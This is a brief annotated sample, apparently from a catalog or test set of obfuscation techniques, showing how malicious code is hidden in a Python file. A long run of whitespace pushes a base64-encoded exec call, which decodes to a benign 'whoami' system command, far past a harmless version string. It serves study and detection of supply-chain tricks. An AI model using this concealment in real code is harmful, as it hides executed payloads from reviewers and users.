# technique: payload pushed far to the right on a line (hidden past the editor's edge)
# class: obfuscation
# source: Sonatype, "pytoileur" write-up (2024): code hidden behind long runs of whitespace
# declares:
VERSION = "1.0.2"                                                                                                                                                                                                                                                                                                                                       ;import base64;exec(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgid2hvYW1pIik="))
